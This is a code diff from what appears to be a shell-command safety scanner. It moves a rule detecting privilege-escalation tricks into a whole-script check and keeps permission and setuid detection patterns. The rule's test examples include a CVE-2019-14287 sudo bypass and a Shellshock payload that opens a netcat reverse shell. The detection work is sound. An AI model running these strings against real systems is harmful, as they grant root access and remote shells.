@@ -1,6 +1,6 @@
 // Opening permissions on broad trees, and setuid shells.
 import { rawWords } from "../resolve.js";
-import type { CommandRule } from "../rule.js";
+import type { CommandRule, ScriptRule } from "../rule.js";
 import { hasFlag, operands, targetClasses } from "./facts.js";
 
 const WORLD_WRITABLE = /^(?:[0-7]?[0-7][0-7][2367]|[ugo]*[ao][ugo]*\+[rwxXst]*w[rwxXst]*|\+[rwxXst]*w[rwxXst]*)$/;
@@ -8,21 +8,6 @@ const SETUID = /^(?:[2467][0-7]{3}|u\+s|\+s|g\+s|a\+s)$/;
 const SHELL_LIKE = /(?:^|\/)(?:bash|sh|dash|zsh|ksh|python[0-9.]*|perl|ruby|find|vim?|nano|less|more|awk|env|node|php|cp|tee)$/;
 
 export const permissionRules: CommandRule[] = [
-  {
-    id: "privilege-escalation-exploit",
-    description: "known privilege-escalation tricks: sudo -u#-1 (CVE-2019-14287), Shellshock function definitions",
-    severity: "critical",
-    reason: "semantic:destructive_command",
-    check: (inv) => {
-      if (inv.via.includes("sudo") && /(?:^|\s)(?:-u\s*#-1|-u\s*#4294967295|--user=#-1)/.test(inv.source)) return true;
-      // Shellshock: a function definition as a *value* (env var, header), not `name() { … }`.
-      return /(?:^|[='"\s])\(\)\s*\{\s*:\s*;\s*\}\s*;/.test(inv.source);
-    },
-    examples: {
-      positive: ["sudo -u#-1 /bin/bash", "env x='() { :;}; echo vulnerable' bash -c 'echo test'", "curl -A '() { :;}; /bin/bash -c \"nc 10.0.0.1 1337 -e /bin/sh\"' http://target/cgi-bin/status"],
-      negative: ["sudo -u deploy ls", "f() { :; }; f"],
-    },
-  },
   {
     id: "chmod-world-writable-broad",
     description: "world-writable permissions on /, a home directory or a system tree",
@@ -79,3 +64,21 @@ export const permissionRules: CommandRule[] = [
     },
   },
 ];
+
+/** Known privilege-escalation tricks, read once from the whole script (not per command). */
+export const privilegeEscalationExploit: ScriptRule = {
+  id: "privilege-escalation-exploit",
+  description: "known privilege-escalation tricks: sudo -u#-1 (CVE-2019-14287), Shellshock function definitions",
+  severity: "critical",
+  reason: "semantic:destructive_command",
+  check(all) {
+    const sudoBypass = /(?:^|[\s;&|(])sudo\s+(?:-\S+\s+)*(?:-u\s*#-1|-u\s*#4294967295|--user=#-1)\b/.test(all.source);
+    // Shellshock: a function definition as a *value* (env var, header), not `name() { … }`.
+    const shellshock = /(?:^|[='"\s])\(\)\s*\{\s*:\s*;\s*\}\s*;/.test(all.source);
+    return sudoBypass || shellshock ? all.invocations[0] : undefined;
+  },
+  examples: {
+    positive: ["sudo -u#-1 /bin/bash", "env x='() { :;}; echo vulnerable' bash -c 'echo test'", "curl -A '() { :;}; /bin/bash -c \"nc 10.0.0.1 1337 -e /bin/sh\"' http://target/cgi-bin/status"],
+    negative: ["sudo -u deploy ls", "f() { :; }; f"],
+  },
+};
